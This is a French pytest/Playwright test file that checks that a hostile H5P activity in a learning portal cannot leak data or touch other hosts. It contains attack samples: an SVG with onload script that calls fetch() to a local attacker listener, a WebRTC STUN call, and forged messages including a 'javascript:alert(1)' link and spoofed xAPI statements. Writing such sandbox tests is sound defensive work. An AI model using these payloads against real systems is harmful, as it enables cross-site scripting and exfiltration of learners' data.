"""Une activité H5P hostile, dans un vrai navigateur : ni la page, ni le portail, ni un autre hôte ne sont touchés."""

import json
import socket
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect

from evaluations.h5p import depot, inclusion, lecteur
from evaluations.models import Declaration, EtatH5P, FichierVersionH5P, Tentative
from lms.models import Professionnel
from tests.fabrique_h5p import installer_activite, installer_bibliotheque

from .conftest import Surveillance, personne, se_connecter
from .test_h5p import attendre, commencer, nadia, ouvrir, portail_leger, poser, statiques_ouverts  # noqa: F401 (fixtures)

HOSTILE_JS = (Path(__file__).parent / "hostile.js").read_text()
# Chromium ne les fait pas dans une fenêtre sans profil : le témoin ne peut pas les voir.
SANS_TEMOIN = {"preconnect", "dns_prefetch"}
SECOND_JS = """
var appel = new RTCPeerConnection({iceServers: [{urls: 'stun:__STUN__'}]});
appel.createDataChannel('x');
appel.createOffer().then(function (offre) { appel.setLocalDescription(offre); });
"""
TEMOIN = """<!doctype html><body><script>
H5P = {EventDispatcher: function () {}}; H5P.EventDispatcher.prototype = {};
</script><script src="/temoin.js"></script>"""


class Ecouteur:
    """Un serveur d'attaquant, local : il note chaque requête, chaque connexion, chaque paquet STUN."""

    def __init__(self) -> None:
        recus: list[str] = []
        pages: dict[str, str] = {}

        class Oreille(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = pages.get(self.path)
                if page is None:
                    recus.append(self.path)
                self.send_response(204 if page is None else 200)
                self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
                self.end_headers()
                self.wfile.write((page or "").encode())

            do_POST = do_PUT = do_OPTIONS = do_HEAD = do_GET

            def send_error(self, *arguments: Any, **_: Any) -> None:
                recus.append("octets")

            def log_message(self, *arguments: Any) -> None:
                """Rien dans le journal."""

        self.recus, self.pages = recus, pages
        self.connexions = 0
        self.serveur = ThreadingHTTPServer(("127.0.0.1", 0), Oreille)
        self.serveur.verify_request = self.compter  # type: ignore[method-assign]
        self.stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.stun.bind(("127.0.0.1", 0))
        self.port = self.serveur.server_port
        self.origine = f"http://127.0.0.1:{self.port}"
        self.adresse_stun = f"127.0.0.1:{self.stun.getsockname()[1]}"
        for geste in (self.serveur.serve_forever, self.entendre):
            Thread(target=geste, daemon=True).start()

    def compter(self, *_: Any) -> bool:
        self.connexions += 1
        return True

    def entendre(self) -> None:
        while True:
            self.stun.recvfrom(2000)
            self.recus.append("/webrtc")

    def hostile(self, portail: str, **mots: str) -> str:
        """Le code hostile, qui vise cet écouteur."""
        pont = inclusion.fixe("pont/pont-avant.js", portail).empreinte.strip("'")
        valeurs = {"CIBLE": self.origine, "PORTAIL": portail, "STUN": self.adresse_stun, "EMPREINTE": pont, **mots}
        js = HOSTILE_JS
        for mot, valeur in valeurs.items():
            js = js.replace(f"__{mot}__", valeur)
        return js


@pytest.fixture
def ecouteur() -> Iterator[Ecouteur]:
    un = Ecouteur()
    yield un
    un.serveur.shutdown()


def installer_l_hostile(ecouteur: Ecouteur, portail: str) -> Any:
    """La bibliothèque hostile, et le second script qu'elle fait charger par un cadre écrit."""
    second = installer_bibliotheque("H5P.TestSecond", js=SECOND_JS.replace("__STUN__", ecouteur.adresse_stun))
    adresse = f"{portail}/h5p/l/{second.dossier}/essai.js"
    autre = installer_activite("A9-AUTRE").version_courante
    forge = lecteur.jeton_contenu(autre.uuid).partition("-")[2]
    mots = {"SECOND": adresse, "AUTRE_CONTENU": f"/h5p/c/{'0' * 32}-{forge}/content/images/essai.png"}
    return installer_bibliotheque("H5P.TestHostile", js=ecouteur.hostile(portail, **mots))


def lire_le_butin(cadre: FrameLocator | Page) -> str:
    expect(cadre.locator(".butin")).to_contain_text("butin :", timeout=30_000)
    return cadre.locator(".butin").inner_text().removeprefix("butin :").strip()


def appels(surveillance: Surveillance, page: Page, portail: str, depuis: int) -> list[str]:
    """Ce que le cadre a demandé au portail hors de ses propres fichiers."""
    requetes = [r for r in surveillance.requetes[depuis:] if r.frame != page.main_frame and r.url.startswith(portail)]
    return [r.url for r in requetes if "/api/" in r.url or "/mon-compte/" in r.url]


def test_temoin_sans_boite_chaque_fuite_touche_l_ecouteur(
    navigateur: Browser, live_server: Any, ecouteur: Ecouteur
) -> None:
    """Le même code, dans une page ordinaire : ce que les autres tests disent bloqué fonctionne vraiment ici."""
    ailleurs = f"http://localhost:{ecouteur.port}"
    ecouteur.pages["/"] = TEMOIN
    ecouteur.pages["/temoin.js"] = ecouteur.hostile(live_server.url, SECOND=f"{ailleurs}/second.js", AUTRE_CONTENU="/x")
    ecouteur.pages["/second.js"] = SECOND_JS.replace("__STUN__", ecouteur.adresse_stun)
    page = navigateur.new_context().new_page()
    page.goto(ailleurs)
    lire_le_butin(page)
    attendues = {f"/{nom}" for nom in page.evaluate("fuites") if nom not in SANS_TEMOIN | {"webrtc_cadre_ecrit"}}
    attendre(page, lambda: attendues <= set(ecouteur.recus))
    for depart in page.evaluate("departs"):
        page.goto(ailleurs)
        page.evaluate(f"setTimeout(() => tenter('{depart}'))")
        attendre(page, lambda depart=depart: f"/{depart}" in ecouteur.recus)  # type: ignore[misc]
    page.context.close()


def test_une_activite_hostile_ne_touche_a_rien(
    ouvrir: Callable[..., Page],  # noqa: F811
    live_server: Any,
    surveillance: Surveillance,
    nadia: Professionnel,  # noqa: F811
    poser: Callable[..., Any],  # noqa: F811
    ecouteur: Ecouteur,
) -> None:
    poser(nadia, bibliotheque=installer_l_hostile(ecouteur, live_server.url), params={})
    page = ouvrir()
    se_connecter(page, nadia)
    page.evaluate("localStorage.setItem('secret', 'du portail')")
    cadre = commencer(page)
    depuis = len(surveillance.requetes)
    assert lire_le_butin(cadre) == ""
    for depart in page.frames[1].evaluate("departs"):
        page.reload()
        lire_le_butin(commencer_encore(page))
        page.frames[1].evaluate(f"setTimeout(() => tenter('{depart}'))")
        page.wait_for_timeout(1000)
    assert "/apprendre/A1/" in page.url
    assert (ecouteur.recus, ecouteur.connexions) == ([], 0)
    assert not appels(surveillance, page, live_server.url, depuis)
    du_service = [r.response() for r in surveillance.requetes if "/h5p/" in r.url and r.url.startswith(live_server.url)]
    assert not [r.url for r in du_service if r and "/h5p/" in r.url and "set-cookie" in r.all_headers()]
    assert not Declaration.objects.exists()
    assert Tentative.objects.get().date_fin is None
    surveillance.fautes.clear()


def commencer_encore(page: Page) -> FrameLocator:
    page.wait_for_selector("iframe.prete", state="attached")
    return page.frame_locator("#activite-h5p iframe")


def test_la_page_lecteur_et_un_dessin_ouverts_directement_sont_inertes(
    ouvrir: Callable[..., Page],  # noqa: F811
    live_server: Any,
    surveillance: Surveillance,
    nadia: Professionnel,  # noqa: F811
    poser: Callable[..., Any],  # noqa: F811
    ecouteur: Ecouteur,
) -> None:
    une = poser(nadia, bibliotheque=installer_l_hostile(ecouteur, live_server.url), params={})
    dessin = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'joué\'"><image href="{ecouteur.origine}/i"/>'
        f"<script>document.title='joué';fetch('{ecouteur.origine}/svg')</script></svg>"
    ).encode()
    FichierVersionH5P.objects.create(
        version=une.version_courante,
        chemin="images/x.svg",
        sha256=depot.ranger(dessin),
        taille=len(dessin),
        mime="image/svg+xml",
    )
    page = ouvrir()
    se_connecter(page, nadia)
    jeton = lecteur.signer(personne=nadia.user, version=une.version_courante)
    page.goto(f"/h5p/a/{jeton}/player")
    assert lire_le_butin(page) == ""
    assert page.evaluate("origin") == "null"
    for depart in page.evaluate("departs"):
        page.goto(f"/h5p/a/{jeton}/player")
        page.evaluate(f"setTimeout(() => tenter('{depart}'))")
        page.wait_for_timeout(1000)
    page.goto(f"/h5p/c/{lecteur.jeton_contenu(une.version_courante.uuid)}/content/images/x.svg")
    page.wait_for_timeout(1000)
    assert page.title() != "joué"
    assert (ecouteur.recus, ecouteur.connexions) == ([], 0)
    surveillance.fautes.clear()


FORGER_JS = """
H5P.TestForge = (function () {
  function Forge() { H5P.EventDispatcher.call(this); }
  Forge.prototype = Object.create(H5P.EventDispatcher.prototype);
  Forge.prototype.attach = function ($boite) {
    __FORGES__.forEach(function (message) { PontH5P.envoyer(message.type, message); });
    for (var i = 0; i < 1000; i += 1) {
      PontH5P.envoyer('state', {dataType: 'rafale', subContentId: '0', data: String(i)});
    }
    PontH5P.envoyer('state', {dataType: 'gros', subContentId: '0', data: new Array(300000).join('x')});
    $boite.append('<p class="forge">envoyé</p>');
  };
  return Forge;
})();
"""


def test_des_messages_forges_n_ecrivent_que_chez_soi(
    ouvrir: Callable[..., Page],  # noqa: F811
    surveillance: Surveillance,
    nadia: Professionnel,  # noqa: F811
    poser: Callable[..., Any],  # noqa: F811
) -> None:
    """Ni un autre acteur, ni une autre tentative, ni une autre activité ; de mille états d'un coup, le dernier."""
    yann = personne("Yann")
    repondu = {"id": "http://adlnet.gov/expapi/verbs/answered"}
    vol = {"score": {"raw": 1, "min": 0, "max": 1, "scaled": 1}, "completion": True, "success": True}
    etranger = {"id": "https://portail.example/xapi/activites/00000000-0000-4000-8000-000000000000"}
    enfant = {"id": f"{etranger['id']}?subContentId=x"}
    forges: list[dict[str, Any]] = [
        {"type": type_inconnu} for type_inconnu in ("inconnu", "__proto__", "constructor", "toString")
    ]
    forges += [
        {"type": "xapi", "statement": {"verb": repondu, "object": etranger, "result": vol}},
        {"type": "xapi", "statement": {"verb": repondu, "object": enfant, "result": vol}},
        {
            "type": "xapi",
            "adresse": "/api/h5p/00000000-0000-4000-8000-000000000000/statements",
            "statement": {
                "actor": {"account": {"homePage": "https://a.test", "name": yann.user.username}},
                "verb": repondu,
                "object": etranger,
                "context": {"registration": "00000000-0000-4000-8000-000000000000"},
            },
        },
        {"type": "xapi", "statement": "texte"},
        {"type": "xapi", "statement": None},
        {"type": "state", "dataType": "x" * 65, "subContentId": "0", "data": "1"},
        {"type": "state", "dataType": "s", "subContentId": "0", "data": {"a": 1}},
        {"type": "state", "dataType": "s", "subContentId": "0", "data": "1", "tentative": "x", "personne": "y"},
        {"type": "link", "url": "javascript:alert(1)"},
        {"type": "resize", "height": "1e9"},
    ]  # fmt: skip
    js = FORGER_JS.replace("__FORGES__", json.dumps(forges))
    poser(nadia, bibliotheque=installer_bibliotheque("H5P.TestForge", js=js), params={})
    page = ouvrir()
    se_connecter(page, nadia)
    cadre = commencer(page)
    expect(cadre.locator(".forge")).to_be_attached()
    attendre(page, lambda: EtatH5P.objects.filter(data_id="rafale", data="999").exists())
    attendre(page, lambda: EtatH5P.objects.filter(data_id="s").exists())
    assert {(etat.personne_id, etat.data_id) for etat in EtatH5P.objects.all()} == {
        (nadia.user.pk, "rafale"),
        (nadia.user.pk, "s"),
    }
    assert not Declaration.objects.exists()
    assert Tentative.objects.get().date_fin is None
    assert page.locator("#activite-h5p iframe").evaluate("cadre => Number(cadre.height)") <= 5000
    surveillance.fautes.clear()
